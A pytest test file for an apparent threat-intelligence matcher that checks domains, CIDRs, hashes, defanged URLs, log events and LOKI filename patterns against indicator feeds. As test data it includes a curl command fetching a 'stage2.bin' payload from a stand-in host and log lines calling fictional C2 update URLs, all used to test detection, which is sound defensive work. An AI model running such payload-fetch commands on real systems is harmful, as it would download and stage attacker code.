"""The matcher: domains with subdomains (or exact), CIDRs, hashes, URLs, free text, events, findings."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from intel_helpers import DROPPER_SHA256

from tianmu.core.models import Asset, AssetKind, Event, Finding, FindingKind, Location, Severity
from tianmu.intel.engine import IntelMatcher
from tianmu.intel.kb import import_feed
from tianmu.store.database import Store

ASSET = Asset(name="/srv/web01", kind=AssetKind.DIRECTORY)


@pytest.fixture
def matcher(loaded: Store, home: Path) -> IntelMatcher:
    return IntelMatcher.open(loaded, home)


def _hits(matcher: IntelMatcher, text: str) -> set[tuple[str, str]]:
    return {(s.type, s.indicator) for s in matcher.scan_text(text)}


def test_domains_match_their_subdomains_in_any_case(matcher: IntelMatcher) -> None:
    assert _hits(matcher, "resolved A.B.NightOwl-C2.Example to 10.0.0.9") == {
        ("domain", "nightowl-c2.example")
    }
    assert _hits(matcher, "resolved nightowl-c2.example.org and notnightowl-c2.example") == set()


def test_exact_domains_do_not_match_subdomains(store: Store, tmp_path: Path, home: Path) -> None:
    feed = tmp_path / "exact.txt"
    feed.write_text("shared-hosting.example\n", encoding="utf-8")
    import_feed(store, feed, home=home, exact=True)
    matcher = IntelMatcher.open(store, home)
    assert _hits(matcher, "GET shared-hosting.example") == {("domain", "shared-hosting.example")}
    assert _hits(matcher, "GET customer.shared-hosting.example") == set()


def test_addresses_in_networks_and_hashes(matcher: IntelMatcher) -> None:
    text = f"conn 198.51.100.42 -> 192.0.2.200 and 203.0.113.66, dropped {DROPPER_SHA256.upper()}"
    assert _hits(matcher, text) == {
        ("cidr", "198.51.100.0/25"),
        ("cidr", "192.0.2.0/24"),
        ("ip", "203.0.113.66"),
        ("sha256", DROPPER_SHA256),
    }
    assert _hits(matcher, "198.51.100.200 and 203.0.113.67 and 1203.0.113.66") == set()
    assert _hits(matcher, "12:00:01 sshd: from 2001:DB8:0::BAD port 22, std::map") == {
        ("ip", "2001:db8::bad")
    }
    at_sentence_end = f"The dropper was {DROPPER_SHA256}. Another: {DROPPER_SHA256}.exe"
    assert _hits(matcher, at_sentence_end) == {("sha256", DROPPER_SHA256)}


def test_defanged_urls_in_an_analyst_note(matcher: IntelMatcher) -> None:
    note = "Victim clicked hxxps://LOGIN-MICROS0FT[.]example/auth?session=9 then fetched hxxp://update.nightowl[.]example/get?id=7."
    assert _hits(matcher, note) == {
        ("url", "https://login-micros0ft.example/auth"),
        ("url", "http://update.nightowl.example/get?id=7"),
    }


def test_url_indicator_matches_any_scheme_host_only_via_host(matcher: IntelMatcher) -> None:
    assert _hits(matcher, "curl https://payload-drop.example/stage2.bin") == {
        ("url", "http://payload-drop.example/stage2.bin")
    }
    # Another path on the host: the URL indicator does not cover it, and the host is not listed.
    assert _hits(matcher, "curl https://payload-drop.example/index.html") == set()


def test_lookup_explains_parent_domains_and_networks(matcher: IntelMatcher) -> None:
    [record] = matcher.lookup("hxxp://x.nightowl-c2[.]example/panel")
    assert (record.type, record.value) == ("domain", "nightowl-c2.example")
    [network] = matcher.lookup("198.51.100.5")
    assert network.type == "cidr" and network.value == "198.51.100.0/25"
    assert matcher.lookup("example.org") == []


def test_events_give_findings_with_evidence_conventions(matcher: IntelMatcher) -> None:
    when = datetime(2026, 11, 20, 8, 15, tzinfo=UTC)
    events = [
        Event(
            fields={"src_ip": "10.1.1.5", "dst_ip": "203.0.113.66", "query": "API.nightowl-c2.example"},
            raw='{"src_ip":"10.1.1.5","dst_ip":"203.0.113.66","query":"API.nightowl-c2.example"}',
            origin=Location("logs/dns.jsonl", 3),
            timestamp=when,
        ),
        Event(
            fields={"c-ip": "10.1.1.5", "cs-user-agent": "NightOwl/2.1", "cs-uri": "/"},
            raw='10.1.1.5 - - "GET / HTTP/1.1" 200 12 "-" "NightOwl/2.1"',
            origin=Location("logs/dns.jsonl", 9),
        ),
        Event(
            fields={"dst_ip": "203.0.113.66"},
            raw="203.0.113.66",
            origin=Location("logs/dns.jsonl", 40),
        ),
    ]
    findings = {f.evidence["indicator"]["value"]: f for f in matcher.match_events(events, ASSET)}
    assert set(findings) == {"203.0.113.66", "nightowl-c2.example", "NightOwl/2.1"}
    ip = findings["203.0.113.66"]
    assert ip.kind == FindingKind.INTEL and ip.severity == Severity.HIGH
    assert ip.evidence["path"] == "logs/dns.jsonl" and ip.evidence["line"] == 3
    assert ip.evidence["last_line"] == 40 and ip.evidence["sightings"] == 2
    assert ip.evidence["time"] == when.isoformat()
    assert ip.evidence["field"] == "dst_ip"
    assert ip.evidence["entities"]["ip"] == ["10.1.1.5", "203.0.113.66"]
    assert ip.evidence["fingerprint_extra"] == "ip:203.0.113.66@logs/dns.jsonl"
    assert ip.techniques == ("T1071.001",)
    assert set(ip.data["sources"]) == {"stix:partner-cert", "csv:iocs"}
    assert "NightOwl RAT" in ip.title
    domain = findings["nightowl-c2.example"]
    assert domain.evidence["observed"] == "api.nightowl-c2.example"
    assert domain.evidence["entities"]["domain"] == ["api.nightowl-c2.example"]
    assert findings["NightOwl/2.1"].evidence["field"] == "cs-user-agent"


def test_fingerprint_is_per_indicator_and_file(matcher: IntelMatcher) -> None:
    def finding(path: str, line: int) -> Finding:
        event = Event(fields={}, raw="to 203.0.113.66", origin=Location(path, line))
        [found] = matcher.match_events([event], ASSET)
        return found

    assert finding("a.log", 1).fingerprint == finding("a.log", 99).fingerprint
    assert finding("a.log", 1).fingerprint != finding("b.log", 1).fingerprint


def test_malware_hashes_and_peers_of_earlier_findings(matcher: IntelMatcher) -> None:
    malware = Finding(
        kind=FindingKind.MALWARE,
        rule_id="yara:Dropper",
        title="Dropper",
        severity=Severity.HIGH,
        asset=ASSET,
        evidence={
            "path": "downloads/invoice.pdf.exe",
            "sha256": DROPPER_SHA256,
            "entities": {"hash": [DROPPER_SHA256]},
        },
    )
    peer = Finding(
        kind=FindingKind.EXPOSURE,
        rule_id="net:peer",
        title="Outbound peer",
        severity=Severity.INFO,
        asset=ASSET,
        evidence={"path": "netstat", "entities": {"ip": ["198.51.100.77"], "domain": ["cdn.example"]}},
    )
    found = {f.evidence["indicator"]["value"]: f for f in matcher.match_findings([malware, peer], ASSET)}
    assert set(found) == {DROPPER_SHA256, "198.51.100.77"}
    assert found[DROPPER_SHA256].evidence["path"] == "downloads/invoice.pdf.exe"
    assert found[DROPPER_SHA256].evidence["entities"]["hash"] == [DROPPER_SHA256]
    assert found["198.51.100.77"].data["actors"] == ["Sandy Ledger"]


def test_plain_lines_are_scanned_in_blocks_with_line_numbers(matcher: IntelMatcher) -> None:
    lines = [f"Nov 20 08:{i % 60:02d}:00 host sshd[1]: Accepted from 10.0.{i % 250}.1" for i in range(5000)]
    lines[1234] = "Nov 20 08:00:00 host curl: GET HTTP://UPDATE.NightOwl.example/get?id=7 done"
    lines[4321] = "Nov 20 09:00:00 host named: query evil-updates[.]example"
    found = {f.evidence["indicator"]["value"]: f for f in matcher.match_lines(iter(lines), "syslog", ASSET)}
    assert found["http://update.nightowl.example/get?id=7"].evidence["line"] == 1235
    assert found["evil-updates.example"].evidence["line"] == 4322
    assert found["evil-updates.example"].evidence["excerpt"] == lines[4321]
    assert len(found) == 2


def test_loki_filename_expressions_match_paths_without_false_positives(
    sqlite_store: Store, shared_data: Path, tmp_path: Path
) -> None:
    import_feed(sqlite_store, shared_data / "intel" / "signature-base-iocs", home=tmp_path)
    matcher = IntelMatcher.open(sqlite_store, tmp_path)
    event = Event(
        fields={"Image": r"C:\Windows\System32\winhttpc.dll", "User": "NT AUTHORITY\\SYSTEM"},
        raw="Process Create",
        origin=Location("Sysmon.evtx"),
    )
    [finding] = matcher.match_events([event], ASSET)
    assert finding.evidence["indicator"] == {"type": "filename", "value": r"ystem32\\winhttpc\.dll"}
    assert finding.evidence["field"] == "Image"
    assert finding.evidence["entities"]["file"] == [r"C:\Windows\System32\winhttpc.dll"]
    assert {s.indicator for s in matcher.match_path(r"C:\Users\bob\Downloads\whatsapp.exe")} >= {
        r"\\whatsapp\.exe"
    }
    # The same name where WhatsApp installs itself is LOKI's listed false positive.
    installed = r"C:\Users\bob\AppData\Local\WhatsApp\whatsapp.exe"
    assert r"\\whatsapp\.exe" not in {s.indicator for s in matcher.match_path(installed)}
    # A Linux path to a mounted Windows disk is tried with backslashes too.
    assert matcher.match_path("/mnt/disk/Windows/System32/winhttpc.dll")
    assert matcher.match_path("/srv/www/index.html") == []
